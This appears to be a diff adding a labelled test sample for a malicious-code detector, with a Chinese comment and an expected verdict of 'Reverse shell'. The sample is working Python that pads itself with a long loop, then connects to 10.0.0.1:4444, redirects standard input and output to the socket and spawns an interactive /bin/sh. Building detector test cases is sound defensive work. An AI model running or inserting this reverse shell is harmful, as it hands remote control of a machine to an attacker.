@@ -0,0 +1,13 @@
+# 大量内置方法调用之后，通过socket对象的内置方法建立回连并重定向标准输入输出
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os, socket, subprocess
+
+parts = []
+for i in range(2000):
+    parts.append("-".join(["a", str(i)]).upper().strip())
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+subprocess.call(["/bin/sh", "-i"])